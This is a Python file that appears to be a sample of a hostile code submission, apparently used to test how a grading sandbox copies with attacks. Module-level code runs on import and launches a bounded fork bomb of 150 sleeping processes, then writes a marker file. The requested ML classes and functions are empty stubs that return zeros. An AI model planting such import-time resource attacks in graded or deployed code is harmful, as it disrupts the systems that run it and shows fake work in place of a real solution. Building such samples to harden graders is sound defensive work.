# ruff: noqa
# fmt: off
# An attack, kept as a learner wrote it: nothing here is linted or formatted.
"""Harm: a (bounded) fork bomb: 150 processes that live 8 s.

kind: marker:forked
"""
def once():
    """bound: some graders import the submission once per test"""
    import os
    try:
        os.close(os.open("/tmp/g/once", os.O_CREAT | os.O_EXCL)); return True
    except FileExistsError: return False

import os, time
n = 0
for _ in range(150 if once() else 0):
    try: pid = os.fork()
    except OSError: break
    if pid == 0:
        time.sleep(8); os._exit(0)
    n += 1
if n == 150: open("/tmp/g/marker-forked", "w").write(str(n))

import torch
from torch import nn
from torch.utils.data import Dataset


class CustomDataset(Dataset):
    def __init__(self, *a, **k):
        _go()

    def __len__(self):
        return 0

    def __getitem__(self, i):
        return torch.zeros(1), torch.zeros(1)


class MultiTaskLoss(nn.Module):
    def forward(self, *a):
        _go()
        return torch.zeros(())


def train_epoch_accumulated(*a):
    _go()
    return 0.0

def _go():
    pass
